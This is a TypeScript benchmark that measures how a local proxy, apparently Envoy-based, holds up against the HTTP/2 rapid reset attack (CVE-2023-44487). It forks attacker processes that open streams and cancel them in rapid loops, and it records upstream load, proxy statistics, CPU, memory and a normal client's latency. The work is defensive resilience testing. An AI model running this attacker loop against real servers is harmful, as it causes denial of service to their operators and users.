// HTTP/2 rapid reset (CVE-2023-44487) against `strait proxy` on loopback: what one attacking connection costs
// upstream and in the proxy (raw HEADERS+RST_STREAM pairs, and node:http2 request()+close()), and a normal
// client's latency while 4 raw attackers reconnect for 10 s. Run: node dist/bench/h2-rapid-reset.js [--streams N]
import { fork, type ChildProcess } from 'node:child_process';
import http from 'node:http';
import http2 from 'node:http2';
import os from 'node:os';
import { fileURLToPath } from 'node:url';
import { arg, next, percentile } from './lib/bench-util.js';
import { treeCpuSeconds, treePeakRssBytes } from './lib/proc-usage.js';
import { bootstrapYaml, simpleRoutes } from '../test/lib/config.js';
import { rapidReset, type RapidResetResult } from '../test/lib/h2-rapid-reset.js';
import { startProxy, type RunningProxy } from '../test/lib/proxy-process.js';

const SELF = fileURLToPath(import.meta.url);
const STREAMS = Number(arg('streams', '100000'));
/** node:http2 makes each stream in JS; fewer keep its run short. */
const NODE_STREAMS = Number(arg('node-streams', '20000'));
const ATTACKERS = Number(arg('attackers', '4'));
const DURATION_S = Number(arg('duration', '10'));
/** The 4-attacker phase: each attacker opens a connection of RATE_STREAMS pairs every EVERY_MS. */
const RATE_STREAMS = Number(arg('rate-streams', '2000'));
const EVERY_MS = Number(arg('every-ms', '250'));
/** Which parts run: raw (one raw connection), node (node:http2 attacker), rate (4 attackers and a normal client). */
/** The normal client's request period (open loop). */
const NORMAL_PERIOD_MS = Number(arg('period-ms', '10'));
const PHASES = new Set(arg('phases', 'raw,node,rate').split(','));

interface Counts { requests: number; connections: number }

// ---- child roles ----

/** The upstream: answers 200 "ok" and counts connections and requests (GET /__counts is not counted). */
function runUpstream(): void {
  const counts: Counts = { requests: 0, connections: 0 };
  const server = http.createServer((req, res) => {
    if (req.url === '/__counts') {
      counts.connections--;
      res.setHeader('connection', 'close');
      res.end(JSON.stringify(counts));
      return;
    }
    counts.requests++;
    res.end('ok');
  });
  server.on('connection', () => { counts.connections++; });
  server.keepAliveTimeout = 60_000;
  server.listen(0, '127.0.0.1', () => {
    const addr = server.address();
    process.send!({ kind: 'ready', port: typeof addr === 'object' && addr !== null ? addr.port : 0 });
  });
}

/**
 * node:http2 as the attacker: request() then close(CANCEL) for each stream. Node sends the HEADERS frames in a
 * burst and the RST_STREAM frames after them, so the proxy sees the streams open before any reset.
 */
function nodeClientReset(port: number, streams: number): Promise<RapidResetResult> {
  return new Promise((resolve) => {
    const started = performance.now();
    const session = http2.connect(`http://127.0.0.1:${port}`);
    let written = 0;
    let goaway: RapidResetResult['goaway'] = null;
    session.on('error', () => {});
    session.on('goaway', (errorCode: number, lastStreamId: number) => { goaway = { errorCode, lastStreamId }; });
    session.on('close', () => resolve({ written, goaway, closedByServer: goaway !== null,
      durationMs: performance.now() - started }));
    // Ends once every stream has closed (answered or reset), when the proxy closes the session, or after 60 s.
    const cap = setTimeout(() => session.destroy(), 60_000);
    session.on('close', () => clearTimeout(cap));
    let closed = 0;
    const onClose = (): void => {
      if (++closed === written) session.close();
    };
    session.once('remoteSettings', () => {
      for (; written < streams && !session.closed && !session.destroyed; written++) {
        const req = session.request({ ':path': '/' });
        req.on('error', () => {});
        req.on('close', onClose);
        req.close(http2.constants.NGHTTP2_CANCEL);
      }
    });
  });
}

/**
 * An attacker. With --every-ms, a new connection starts at that period until --for-ms is up, whatever became of the
 * earlier ones (a fixed attack rate, the same against any build); otherwise one connection.
 */
async function runAttacker(): Promise<void> {
  const port = Number(arg('port', '0'));
  const everyMs = Number(arg('every-ms', '0'));
  const untilMs = Date.now() + Number(arg('for-ms', '0'));
  const viaNode = arg('client', 'raw') === 'node';
  const attack = (): Promise<RapidResetResult> => (viaNode ? nodeClientReset(port, STREAMS) : rapidReset(port, STREAMS, 1000));
  const runs: Promise<RapidResetResult>[] = [attack()];
  while (everyMs > 0 && Date.now() + everyMs < untilMs) {
    await new Promise((r) => setTimeout(r, everyMs));
    runs.push(attack());
  }
  process.send!({ kind: 'done', results: await Promise.all(runs) }, () => process.disconnect());
}

// ---- the measurement ----

function child(role: string, args: string[] = []): ChildProcess {
  const c = fork(SELF, ['--role', role, ...args], { stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
  // Attackers would be on other machines: at the lowest priority their own CPU use does not starve the proxy
  // and the normal client on a small shared box.
  if (role === 'attacker') os.setPriority(c.pid!, 19);
  return c;
}

async function upstreamCounts(port: number): Promise<Counts> {
  const res = await fetch(`http://127.0.0.1:${port}/__counts`);
  return await res.json() as Counts;
}

async function stat(proxy: RunningProxy, name: string): Promise<number> {
  const text = await (await proxy.admin(`/stats?filter=${encodeURIComponent(`^${name}$`)}`)).text();
  const m = new RegExp(`^${name.replace(/\./g, '\\.')}: (\\d+)$`, 'm').exec(text);
  return m === null ? 0 : Number(m[1]);
}

/**
 * The normal client: one GET every NORMAL_PERIOD_MS on one h2 connection (open loop), each latency counted from
 * when it was due, so a stalled proxy shows as the stall rather than as fewer samples.
 */
async function normalClient(port: number, ms: number): Promise<{ latencies: number[]; errors: number }> {
  const latencies: number[] = [];
  let errors = 0;
  let session = http2.connect(`http://127.0.0.1:${port}`);
  session.on('error', () => {});
  const one = (due: number): Promise<void> => new Promise((resolve) => {
    if (session.closed || session.destroyed) {
      session = http2.connect(`http://127.0.0.1:${port}`);
      session.on('error', () => {});
    }
    const req = session.request({ ':path': '/' });
    let status = 0;
    const fail = (): void => { clearTimeout(timer); errors++; resolve(); };
    const timer = setTimeout(() => { req.close(); fail(); }, 15_000);
    req.on('response', (h) => { status = Number(h[':status']); });
    req.on('data', () => {});
    req.on('end', () => {
      clearTimeout(timer);
      if (status === 200) latencies.push(performance.now() - due);
      else errors++;
      resolve();
    });
    req.on('error', fail);
  });
  const start = performance.now();
  const pending: Promise<void>[] = [];
  for (let i = 0; i * NORMAL_PERIOD_MS < ms; i++) {
    const due = start + i * NORMAL_PERIOD_MS;
    const wait = due - performance.now();
    if (wait > 0) await new Promise((r) => setTimeout(r, wait));
    pending.push(one(due));
  }
  await Promise.all(pending);
  session.close();
  return { latencies: latencies.sort((a, b) => a - b), errors };
}

function latencyLine(r: { latencies: number[]; errors: number }): string {
  const l = r.latencies;
  if (l.length === 0) return `no answers, ${r.errors} errors`;
  return `${l.length} answers, p50 ${percentile(l, 50).toFixed(1)} ms, p99 ${percentile(l, 99).toFixed(1)} ms, `
    + `max ${l[l.length - 1].toFixed(1)} ms, ${r.errors} errors`;
}

/** What a run changes from Envoy's defaults: HCM fields, and runtime overrides set through the admin API. */
interface Tuning { hcm?: Record<string, unknown>; runtime?: string }

async function freshProxy(upstreamPort: number, tuning: Tuning = {}): Promise<{ proxy: RunningProxy; port: number }> {
  const proxy = await startProxy(bootstrapYaml({
    routeConfig: simpleRoutes([{ match: { prefix: '/' }, route: { cluster: 'up' } }]),
    clusters: [{ name: 'up', ports: [upstreamPort] }],
    hcm: tuning.hcm,
  }));
  if (tuning.runtime !== undefined) await proxy.admin(`/runtime_modify?${tuning.runtime}`, { method: 'POST' });
  return { proxy, port: await proxy.listenerPort('test') };
}

async function attackers(n: number, port: number, streams: number, client: string, forMs = 0,
  everyMs = 0): Promise<RapidResetResult[]> {
  const kids = Array.from({ length: n }, () => child('attacker', ['--port', String(port), '--for-ms', String(forMs),
    '--every-ms', String(everyMs), '--streams', String(streams), '--client', client]));
  const done = await Promise.all(kids.map((k) => next(k, 'done')));
  return done.flatMap((m) => m.results as RapidResetResult[]);
}

const mb = (b: number): string => `${(b / 1048576).toFixed(0)} MB`;

/** One attacking connection against a fresh proxy: what it cost upstream and in the proxy. */
async function oneConnection(label: string, upstreamPort: number, streams: number, client: string,
  tuning: Tuning = {}): Promise<void> {
  const { proxy, port } = await freshProxy(upstreamPort, tuning);
  try {
    const before = await upstreamCounts(upstreamPort);
    const [r] = await attackers(1, port, streams, client);
    await new Promise((res) => setTimeout(res, 1500));
    const after = await upstreamCounts(upstreamPort);
    const goaway = r.goaway === null ? 'none seen' : `code ${r.goaway.errorCode}, last stream ${r.goaway.lastStreamId}`;
    console.log(`${label}: ${r.written} streams written, connection closed after ${r.durationMs.toFixed(0)} ms `
      + `(by the proxy: ${r.closedByServer}), GOAWAY ${goaway}`);
    console.log(`  upstream saw ${after.requests - before.requests} requests on ${after.connections - before.connections} connections; `
      + `proxy: downstream_rq_total ${await stat(proxy, 'http.ingress_http.downstream_rq_total')}, `
      + `upstream_rq_total ${await stat(proxy, 'cluster.up.upstream_rq_total')}, `
      + `upstream_cx_total ${await stat(proxy, 'cluster.up.upstream_cx_total')}, `
      + `too_many_premature_resets ${await stat(proxy, 'http.ingress_http.downstream_rq_too_many_premature_resets')}, `
      + `peak RSS ${mb(treePeakRssBytes(proxy.child.pid!))}`);
  } finally {
    await proxy.stop();
  }
}

async function main(): Promise<void> {
  const upstream = child('upstream');
  const upstreamPort = (await next(upstream, 'ready')).port as number;
  try {
    if (PHASES.has('raw')) await oneConnection(`raw HEADERS+RST_STREAM pairs, one connection`, upstreamPort, STREAMS, 'raw');
    if (PHASES.has('node')) {
      await oneConnection(`node:http2 request()+close(CANCEL), one connection`, upstreamPort, NODE_STREAMS, 'node');
      // Envoy's knobs against the HEADERS-burst-then-resets shape node:http2 produces.
      await oneConnection(`  same, runtime http.max_requests_per_io_cycle=1`, upstreamPort, NODE_STREAMS, 'node',
        { runtime: 'http.max_requests_per_io_cycle=1' });
      await oneConnection(`  same, http2_protocol_options.max_concurrent_streams=100`, upstreamPort, NODE_STREAMS, 'node',
        { hcm: { http2_protocol_options: { max_concurrent_streams: 100 } } });
    }
    if (!PHASES.has('rate')) return;

    // ATTACKERS raw attackers at a fixed connection rate for DURATION_S while a normal client runs.
    const { proxy, port } = await freshProxy(upstreamPort);
    try {
      const quiet = await normalClient(port, 3000);
      console.log(`normal client alone (3 s): ${latencyLine(quiet)}`);
      const before = await upstreamCounts(upstreamPort);
      const cpu0 = treeCpuSeconds(proxy.child.pid!);
      const [results, normal] = await Promise.all([
        attackers(ATTACKERS, port, RATE_STREAMS, 'raw', DURATION_S * 1000, EVERY_MS),
        new Promise((r) => setTimeout(r, 200)).then(() => normalClient(port, DURATION_S * 1000))]);
      const cpu = treeCpuSeconds(proxy.child.pid!) - cpu0;
      await new Promise((r) => setTimeout(r, 1500));
      const after = await upstreamCounts(upstreamPort);
      const written = results.reduce((a, r) => a + r.written, 0);
      const cut = results.filter((r) => r.closedByServer).length;
      console.log(`${ATTACKERS} raw attackers, each a new connection of ${RATE_STREAMS} pairs every ${EVERY_MS} ms for `
        + `${DURATION_S} s: ${results.length} connections (${cut} closed by the proxy), ${written} pairs written, `
        + `proxy CPU ${cpu.toFixed(1)} s`);
      console.log(`  normal client meanwhile: ${latencyLine(normal)}`);
      console.log(`  upstream saw ${after.requests - before.requests} requests on ${after.connections - before.connections} connections; `
        + `too_many_premature_resets ${await stat(proxy, 'http.ingress_http.downstream_rq_too_many_premature_resets')}, `
        + `peak RSS ${mb(treePeakRssBytes(proxy.child.pid!))}`);
    } finally {
      await proxy.stop();
    }
  } finally {
    upstream.kill();
  }
}

const role = arg('role', 'main');
if (role === 'upstream') runUpstream();
else if (role === 'attacker') void runAttacker();
else await main();
